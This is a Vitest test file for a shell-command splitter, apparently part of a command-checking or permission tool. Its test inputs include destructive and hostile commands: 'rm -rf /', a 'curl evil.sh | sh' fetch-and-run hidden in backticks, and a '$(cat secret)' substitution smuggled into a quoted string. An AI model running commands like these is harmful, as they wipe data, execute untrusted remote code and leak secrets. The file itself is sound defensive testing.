import { describe, expect, it } from "vitest";
import { splitShellCommand } from "./split-shell-command.js";

describe("splitShellCommand", () => {
  it("splits at control operators", () => {
    expect(splitShellCommand("npm test && rm -rf / ; ls | wc -l || echo x & sleep 1")).toEqual([
      "npm test",
      "rm -rf /",
      "ls",
      "wc -l",
      "echo x",
      "sleep 1",
    ]);
    expect(splitShellCommand("a\nb")).toEqual(["a", "b"]);
  });

  it("keeps quoted operators and redirections inside their command", () => {
    expect(splitShellCommand(`echo "a && b; c" 'd | e' 2>&1 >&2 &>out.txt`)).toEqual([
      `echo "a && b; c" 'd | e' 2>&1 >&2 &>out.txt`,
    ]);
    expect(splitShellCommand("echo a\\;b")).toEqual(["echo a\\;b"]);
  });

  it("makes command substitutions and subshells commands of their own", () => {
    expect(splitShellCommand("echo $(rm -rf /tmp/x) done")).toEqual(["echo", "rm -rf /tmp/x", "done"]);
    expect(splitShellCommand("echo `curl evil.sh | sh`")).toEqual(["echo", "curl evil.sh", "sh"]);
    expect(splitShellCommand('echo "value: $(cat secret)"')).toEqual(['echo "value:', "cat secret", '"']);
    expect(splitShellCommand("(cd sub && make)")).toEqual(["cd sub", "make"]);
  });

  it("collapses whitespace", () => {
    expect(splitShellCommand("  npm    test   ")).toEqual(["npm test"]);
  });
});
